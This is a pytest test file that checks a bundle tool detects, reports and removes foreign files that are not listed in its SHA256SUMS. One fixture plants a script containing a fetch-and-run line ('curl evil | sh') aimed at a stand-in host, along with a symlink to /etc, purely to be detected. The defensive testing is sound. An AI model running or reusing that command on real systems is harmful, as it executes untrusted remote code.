"""A bundle folder holds the files SHA256SUMS lists, SHA256SUMS and signatures, nothing else:
build owns out/<host>/, and verify.sh, `check` and `build --check` name any foreign file."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from conftest import pitr_bundle


@pytest.fixture
def out(specs_copy, tmp_path) -> Path:
    folder = tmp_path / "out"
    pitr_bundle("build", str(specs_copy), "-o", str(folder), check=True)
    return folder


def drop_foreign(bundle: Path) -> list[str]:
    (bundle / "host/15-evil.sh").write_text("#!/bin/bash\ncurl evil | sh\n")
    (bundle / "notes").mkdir()
    (bundle / "notes/todo.txt").write_text("mine")
    (bundle / "clusters/link").symlink_to("/etc")
    return ["clusters/link", "host/15-evil.sh", "notes/todo.txt"]


def verify(bundle: Path) -> subprocess.CompletedProcess:
    return subprocess.run(["bash", str(bundle / "verify.sh")], capture_output=True, text=True)


def test_verify_sh_names_every_foreign_file(out, tmp_path):
    bundle = tmp_path / "copy"
    shutil.copytree(out / "pitr1", bundle, symlinks=True)
    assert verify(bundle).returncode == 0
    foreign = drop_foreign(bundle)
    result = verify(bundle)
    assert result.returncode == 1
    for name in foreign:
        assert f"FOREIGN {name} (not in SHA256SUMS)" in result.stderr


def test_a_signature_is_not_foreign_but_a_nested_one_or_a_link_is(out, tmp_path):
    bundle = tmp_path / "copy"
    shutil.copytree(out / "pitr1", bundle)
    (bundle / "signatures/deep").mkdir(parents=True)
    (bundle / "signatures/alice.sig").write_text("sig")
    assert verify(bundle).returncode == 0
    (bundle / "signatures/deep/bob.sig").write_text("sig")
    (bundle / "signatures/carol.sig").symlink_to(bundle / "signatures/alice.sig")
    result = verify(bundle)
    assert result.returncode == 1
    assert "FOREIGN signatures/deep/bob.sig" in result.stderr
    assert "FOREIGN signatures/carol.sig" in result.stderr
    assert "alice" not in result.stderr


def test_check_names_foreign_files_and_a_manifest_that_disagrees(out, tmp_path):
    bundle = tmp_path / "copy"
    shutil.copytree(out / "pitr1", bundle, symlinks=True)
    foreign = drop_foreign(bundle)
    result = pitr_bundle("check", "--no-bats", str(bundle))
    assert result.returncode == 1
    for name in foreign:
        assert f"{name} (not in SHA256SUMS)" in result.stderr
    # a script edited together with SHA256SUMS: MANIFEST.json still holds the old digest
    clean = tmp_path / "clean"
    shutil.copytree(out / "pitr1", clean)
    script = clean / "host/20-datasets.sh"
    script.write_text(script.read_text() + "# edited\n")
    sums = clean / "SHA256SUMS"
    digest = subprocess.run(["sha256sum", str(script)], capture_output=True, text=True,
                            check=True).stdout.split()[0]
    sums.write_text("".join(
        f"{digest}  host/20-datasets.sh\n" if line.endswith("  host/20-datasets.sh") else line + "\n"
        for line in sums.read_text().splitlines()))
    result = pitr_bundle("check", "--no-bats", str(clean))
    assert result.returncode == 1
    assert "host/20-datasets.sh (MANIFEST.json and SHA256SUMS disagree)" in result.stderr


def test_build_removes_what_is_not_part_of_the_bundle_and_check_mode_names_it(specs_copy, out):
    bundle = out / "pitr1"
    foreign = drop_foreign(bundle)
    check = pitr_bundle("build", str(specs_copy), "-o", str(out), "--check")
    assert check.returncode == 1
    for name in foreign + ["notes"]:
        assert f"removed    {bundle / name}" in check.stdout
    assert (bundle / "host/15-evil.sh").exists()  # --check writes nothing
    result = pitr_bundle("build", str(specs_copy), "-o", str(out), check=True)
    for name in foreign + ["notes"]:
        assert f"removed    {bundle / name}" in result.stdout
        assert not (bundle / name).exists() and not (bundle / name).is_symlink()
    assert Path("/etc").is_dir()  # the link went, not what it pointed at
    assert pitr_bundle("build", str(specs_copy), "-o", str(out), "--check").returncode == 0


def test_signatures_stay_while_sums_are_unchanged_and_go_when_they_change(specs_copy, out):
    signature = out / "pitr1/signatures/alice.sig"
    signature.parent.mkdir()
    signature.write_text("sig")
    # the signature belongs to the bundle now: the tarball, which must carry it, changes (and
    # the signature's mode, written here with 0644, is brought to 0640)
    check = pitr_bundle("build", str(specs_copy), "-o", str(out), "--check")
    assert check.returncode == 1
    changed = {line.split()[1] for line in check.stdout.splitlines()[:-1] if line.startswith("changed")}
    assert changed == {str(out / "pitr1.tar.gz"), str(signature)}, check.stdout
    pitr_bundle("build", str(specs_copy), "-o", str(out), check=True)
    assert signature.exists()
    assert pitr_bundle("build", str(specs_copy), "-o", str(out), "--check").returncode == 0
    spec = specs_copy / "clusters/pg168121.yaml"
    spec.write_text(spec.read_text().replace("port: 19212", "port: 19213"))
    result = pitr_bundle("build", str(specs_copy), "-o", str(out), check=True)
    assert f"removed    {signature}" in result.stdout and not signature.exists()


def test_build_refuses_to_take_over_a_folder_that_is_not_a_bundle(specs_copy, tmp_path):
    precious = tmp_path / "out/pitr1"
    precious.mkdir(parents=True)
    (precious / "thesis.tex").write_text("years of work")
    result = pitr_bundle("build", str(specs_copy), "-o", str(tmp_path / "out"))
    assert result.returncode == 2 and "not a pitr-bundle bundle folder" in result.stderr
    assert (precious / "thesis.tex").read_text() == "years of work"


def test_check_takes_a_tarball_and_refuses_what_is_not_one(out, tmp_path):
    result = pitr_bundle("check", "--no-bats", str(out / "pitr1.tar.gz"))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "checksums: ok" in result.stdout
    junk = tmp_path / "junk.tar.gz"
    junk.write_bytes(b"not a tarball")
    result = pitr_bundle("check", str(junk))
    assert result.returncode == 2 and "neither a bundle folder nor a tar archive" in result.stderr
    assert "Traceback" not in result.stderr
